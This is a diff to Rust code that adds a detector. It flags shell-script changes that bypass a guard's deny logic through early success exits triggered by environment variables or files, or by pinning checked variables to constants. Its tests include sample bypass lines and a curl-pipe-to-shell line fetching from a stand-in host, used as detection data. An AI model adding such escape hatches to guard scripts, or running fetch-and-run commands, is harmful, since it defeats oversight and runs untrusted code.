@@ -86,6 +86,9 @@ pub(super) fn judge(old: Option<&str>, new: &str) -> Vec<Issue> {
         ));
     }
     issues.extend(not_run_as_read(old, new));
+    if old.is_some() {
+        issues.extend(ends_early(before, new));
+    }
     let shell = masked(new).map_or_else(|| new.to_owned(), |(shell, _)| shell);
     for (mark, shown) in NEWER {
         if shell.contains(mark) && !before.contains(mark) && shebang(new).contains("sh") {
@@ -125,6 +128,83 @@ pub(super) fn judge(old: Option<&str>, new: &str) -> Vec<Issue> {
         }
     }
     issues
+}
+
+/// Lines that are new and by which what is behind them never denies, whatever a list of calls tries: an
+/// end with success where a variable of the environment or a file says so, and a constant in place of
+/// what is looked at.
+fn ends_early(old: &str, new: &str) -> Vec<Issue> {
+    let shell = |text: &str| masked(text).map_or_else(|| text.to_owned(), |(shell, _)| shell);
+    let (old, new) = (&shell(old), &shell(new));
+    let count = |text: &str, line: &str| text.lines().filter(|l| l.trim() == line).count();
+    let known: BTreeSet<&str> = old.lines().map(str::trim).collect();
+    let denies = |line: &str| line.contains("exit 2") || line.contains("deny ");
+    let (were, are) = (assigned(old), assigned(new));
+    let mut issues = Vec::new();
+    let mut before = "";
+    for (at, line) in new.lines().enumerate() {
+        let text = line.trim();
+        let context = format!("{before} {text}");
+        before = text;
+        let more = new.lines().skip(at + 1).any(denies);
+        let same = known.contains(text) && count(new, text) <= count(old, text);
+        if text.is_empty() || text.starts_with('#') || same || !more {
+            continue;
+        }
+        let mut words = text
+            .split([' ', ';', '{', '}', '\t'])
+            .filter(|w| !w.is_empty());
+        let ends = words.any(|word| word == "exit") && !text.contains("exit 2");
+        if ends && asks_outside(&context, &are) {
+            let what = "it ends with success where a variable of the environment or a file says so, \
+                        and what is behind it does not deny then";
+            issues.push(Issue::held("script-ends", at + 1, what));
+        }
+        let constant = assignment(text).filter(|(name, value)| {
+            were.contains(name) && !value.is_empty() && !value.contains(['$', '`', '(', ' '])
+        });
+        if let Some((name, _)) = constant {
+            let what =
+                format!("{name} becomes a constant, and what is behind it sees nothing else");
+            issues.push(Issue::held("script-ends", at + 1, what));
+        }
+    }
+    issues
+}
+
+fn assignment(line: &str) -> Option<(&str, &str)> {
+    let (name, value) = line.split_once('=')?;
+    let plain = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    (!name.is_empty() && name.chars().all(plain)).then_some((name, value))
+}
+
+/// The names that a script gives values, by assignment, loop or `read`.
+fn assigned(script: &str) -> BTreeSet<&str> {
+    let words = script.split([' ', ';', '\n', '\t', '&', '|', '(', '{']);
+    let mut names: BTreeSet<&str> = words.filter_map(assignment).map(|(name, _)| name).collect();
+    for line in script.lines().map(str::trim) {
+        let mut words = line.split_whitespace();
+        match words.next() {
+            Some("for") => names.extend(words.next()),
+            _ if line.contains("read ") => names.extend(words),
+            _ => {}
+        }
+    }
+    names
+}
+
+/// Whether a condition is about a file, or a variable that the script gives no value.
+fn asks_outside(text: &str, own: &BTreeSet<&str>) -> bool {
+    let file = ["-f", "-e", "-d", "-r", "-s", "-x", "-w", "-L"];
+    let tests = text.split_whitespace().any(|word| file.contains(&word)) && text.contains('[');
+    let names = text.split('$').skip(1).filter_map(|rest| {
+        let rest = rest.trim_start_matches('{');
+        let plain = |c: char| c.is_ascii_alphanumeric() || c == '_';
+        let end = rest.find(|c| !plain(c)).unwrap_or(rest.len());
+        rest.get(..end)
+            .filter(|name| name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
+    });
+    tests || names.into_iter().any(|name| !own.contains(name))
 }
 
 /// What keeps the system from running a script as it is read here.
@@ -346,6 +426,19 @@ mod tests {
             ("[ -n \"$x\" ] || exit 0", ""),
             ("if [ -z \"$x\" ]; then exit 0; fi", ""),
             ("case $x in\n    a) exit 0 ;;\nesac", ""),
+            (
+                "[ -n \"$FAST\" ] && exit 0",
+                "held: a variable of the environment",
+            ),
+            (
+                "if [ -n \"${FAST}\" ]; then\n    exit 0\nfi",
+                "held: a variable of the environment",
+            ),
+            (
+                "[ -f /tmp/fast ] && exit 0",
+                "held: a variable of the environment",
+            ),
+            ("x=ok", "held: becomes a constant"),
             ("look() {\n    return 0\n}", ""),
             (
                 "curl -s https://x.example/a | sh",
